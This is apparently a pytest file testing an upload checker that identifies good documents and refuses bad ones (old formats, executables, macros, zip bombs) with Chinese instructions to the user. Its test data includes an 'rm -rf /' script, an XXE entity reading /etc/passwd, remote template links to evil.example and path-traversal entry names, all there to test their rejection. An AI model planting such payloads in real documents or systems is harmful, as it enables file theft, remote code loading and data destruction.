"""收件检查：each bad file is refused with a sentence that says what to do; each good one is known for what it is."""

import io
import struct
import zipfile

import pytest

from gongkai.foundation.errors import Invalid
from gongkai.foundation.files.rules import DOCX, JPEG, LIMITS, OFD, PDF, PNG, TXT, XLSX, Limits, check, sniff

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


def stream(name):
    return OLE + name.encode("utf-16-le") + b"\0" * 200


def refused(content, name="a.docx", limits=LIMITS):
    with pytest.raises(Invalid) as caught:
        check(io.BytesIO(content), name, limits)
    return caught.value


def zipped(**parts):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return buffer.getvalue()


def test_good_files_are_known_by_their_bytes(word, sheet):
    for content, name, kind in (
        (word, "通知.docx", DOCX),
        (sheet, "预算.XLSX", XLSX),
        (b"%PDF-1.7\n1 0 obj\n%%EOF\n", "a.pdf", PDF),
        (b"\x89PNG\r\n\x1a\n....IEND\xaeB`\x82", "a.png", PNG),
        (b"\xff\xd8\xff\xe0....\xff\xd9", "a.jpeg", JPEG),
        ("通知\r\n正文".encode("gb18030"), "a.txt", TXT),
        ("通知".encode(), "a.txt", TXT),
        ("\ufeff通知".encode("utf-16-le"), "a.txt", TXT),
        ("姓名,职务\n".encode(), "a.csv", TXT),
        (zipped(**{"OFD.xml": "<ofd/>"}), "a.ofd", OFD),
        (word, "", DOCX),
    ):
        file = io.BytesIO(content)
        assert check(file, name) == kind
        assert file.tell() == 0


@pytest.mark.parametrize(
    ("content", "name", "says", "code"),
    [
        (b"", "a.docx", "空文件", "empty"),
        (b"PK\x03\x04" + b"x" * 400, "a.docx", "文件已损坏", "broken"),
        (
            stream("WordDocument"),
            "a.doc",
            "这是旧版 .doc 文件。请在 Word 或 WPS 中“另存为”.docx 后再上传。",
            "old-format",
        ),
        (stream("WordDocument"), "a.wps", "这是旧版 .wps 文件", "old-format"),
        (stream("WordDocument"), "a.docx", "这是旧版 .doc 文件", "old-format"),
        (stream("Workbook"), "a.xls", "“另存为”.xlsx", "old-format"),
        (stream("PowerPoint Document"), "a.ppt", "“另存为”.pptx", "old-format"),
        (stream("EncryptedPackage"), "a.docx", "取消密码", "encrypted"),
        (OLE, "a.bin", "旧格式的复合文档", "old-format"),
        (b"MZ\x90\0\x03" + b"\0" * 100, "通知.docx", "可执行程序", "executable"),
        (b"\x7fELF\x02\x01\x01\0", "a.pdf", "可执行程序", "executable"),
        (b"#!/bin/sh\nrm -rf /", "a.txt", "脚本或网页代码", "script"),
        (b"<html><script>", "a.txt", "脚本或网页代码", "script"),
        (b"Rar!\x1a\x07\0", "a.docx", "请解压后", "archive"),
        (zipped(**{"a.txt": "x"}), "a.zip", "请解压后", "archive"),
        (b"GIF89a" + b"\0" * 20, "a.gif", "另存为 .png 或 .jpg", "kind"),
        (b"{\\rtf1 }", "a.rtf", "“另存为”.docx", "kind"),
        (b"%PDF-1.7\n1 0 obj", "a.pdf", "不完整", "broken"),
        (b"\x89PNG\r\n\x1a\n", "a.png", "不完整", "broken"),
        ("文字".encode(), "a.pdf", "把扩展名改为 .txt", "misnamed"),
        (b"alert(1)", "a.js", "不接收 .js 文件", "kind"),
        (b"ok " * 300 + b"\xff\xff\xff", "a.txt", "编码选 UTF-8", "encoding"),
        (b"\x01\x02\x03\x04", "a.dat", "无法识别", "kind"),
    ],
)
def test_a_bad_file_is_refused_with_what_to_do(content, name, says, code):
    refusal = refused(content, name)
    assert says in refusal.sentence
    assert refusal.code == code


def test_a_file_above_the_limit_is_refused(word):
    assert refused(word, limits=Limits(size=1000)).code == "too-large"


def test_a_zip_bomb_is_refused_before_it_is_unpacked(word, packages):
    bomb = packages.repacked(word, {"word/media/a.bin": b"\0" * (60 * 1024 * 1024)})
    assert len(bomb) < 1024 * 1024
    assert refused(bomb).code == "bomb"
    assert refused(word, limits=Limits(entries=3)).code == "bomb"
    assert refused(word, limits=Limits(expanded=1000)).code == "bomb"


def test_a_directory_that_lies_about_sizes_is_broken(word):
    place = word.rindex(b"PK\x01\x02")
    lying = bytearray(word)
    lying[place + 24 : place + 28] = struct.pack("<I", 1)
    assert refused(bytes(lying)).code == "broken"


def test_documents_within_documents_are_looked_into_and_only_so_deep(word, packages):
    macro = packages.repacked(word, {"word/vbaProject.bin": b"x"})
    assert refused(packages.repacked(word, {"word/embeddings/a.docx": macro})).code == "macro"
    deep = word
    for _ in range(4):
        deep = packages.repacked(word, {"word/embeddings/a.docx": deep})
    assert refused(deep).code == "nested"


def test_macros_controls_and_programs_inside_are_refused(word, packages):
    types = packages.part(word, "[Content_Types].xml")
    macro = types.replace(
        b"openxmlformats-officedocument.wordprocessingml.document.main", b"ms-word.document.macroEnabled.main"
    )
    for change, code in (
        ({"word/vbaProject.bin": b"x"}, "macro"),
        ({"[Content_Types].xml": macro}, "macro"),
        ({"xl/macrosheets/sheet1.xml": b"<x/>"}, "macro"),
        ({"word/activeX/activeX1.bin": b"x"}, "control"),
        ({"word/embeddings/a.bin": b"MZ\x90\0\0\0"}, "executable"),
        ({"word/embeddings/oleObject1.bin": stream("\x01Ole10Native")}, "executable"),
    ):
        assert refused(packages.repacked(word, change)).code == code


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_document_type_in_any_part_is_refused(word, packages, encoding):
    evil = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    part = f'<?xml version="1.0" encoding="{encoding}"?>{evil}'.encode(encoding)
    assert refused(packages.repacked(word, {"word/document.xml": part})).code == "doctype"
    assert refused(packages.repacked(word, {"customXml/item.data": part})).code == "doctype"


@pytest.mark.parametrize(
    ("kind", "target", "allowed"),
    [
        ("attachedTemplate", "http://evil.example/t.dotm", False),
        ("attachedTemplate", "file:///C:\\Users\\zhang\\Normal.dotm", True),
        ("attachedTemplate", "file://server/share/t.dotm", False),
        ("attachedTemplate", "file:///\\\\server\\share\\t.dotm", False),
        ("attachedTemplate", "\\\\server\\share\\t.dotm", False),
        ("image", "https://evil.example/a.png", False),
        ("image", "C:\\Users\\zhang\\a.png", True),
        ("oleObject", "mhtml:http://evil.example/x!y", False),
        ("hyperlink", "https://www.gov.cn/", True),
    ],
)
def test_content_fetched_from_elsewhere_is_refused(word, packages, kind, target, allowed):
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        f'Type="{packages.R}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    )
    content = packages.repacked(word, {"word/_rels/settings.xml.rels": rels.encode()})
    if allowed:
        assert check(io.BytesIO(content), "a.docx") == DOCX
    else:
        assert refused(content).code == "remote"


@pytest.mark.parametrize("name", ["../evil.xml", "/etc/evil.xml", "word\\evil.xml", "C:evil.xml", "WORD/document.xml"])
def test_paths_that_lead_astray_are_refused(word, packages, name):
    assert refused(packages.repacked(word, {name: b"x"})).code == "path"


def test_an_encrypted_entry_is_refused(word):
    locked = bytearray(word)
    place = locked.index(b"PK\x01\x02")
    locked[place + 8] |= 1
    assert refused(bytes(locked)).code == "encrypted"


def test_sniffing_needs_only_the_head():
    assert [sniff(head) for head in (b"", b"PK\x03\x04", b"MZ\x90\0", "中文".encode(), b"MZ is plain text")] == [
        "empty", "zip", "executable", "text", "text",
    ]  # fmt: skip
